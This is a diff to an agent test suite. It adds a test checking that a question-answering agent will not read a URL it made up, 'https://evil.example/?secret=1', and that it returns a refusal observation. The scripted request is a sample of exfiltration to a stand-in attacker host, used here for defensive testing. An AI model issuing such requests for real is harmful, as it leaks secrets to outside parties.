@@ -215,6 +215,17 @@ async def test_pages_are_read_only_from_addresses_that_came_up() -> None:
     assert supported(answer) == [True]
 
 
+async def test_an_address_that_the_model_makes_up_is_not_read_when_others_can_be() -> None:
+    pages = Pages(
+        {"https://wiki.example/England": ["England has 56 million people."], "https://evil.example/?secret=1": ["Mine."]}
+    )
+    made_up = "Action: read: https://evil.example/?secret=1\nPAUSE"
+    bench = wiki("Action: wikipedia: England\nPAUSE", made_up, "Answer: NO ANSWER: all of it", page_reader=pages)
+    await bench.ask(React, "How many people live in England?")
+    assert pages.read_urls == []
+    assert thoughts(bench)[-1] == ("observation", "Only addresses from the question and those of search results can be read.")
+
+
 async def test_a_turn_and_a_page_that_is_read_have_so_many_tokens() -> None:
     pages = Pages({"https://wiki.example/England": ["England has 56 million people. " * 100]})
     script = ("Action: wikipedia: England\nPAUSE", "Action: read: https://wiki.example/England\nPAUSE", "Answer: 56 million. [2]")
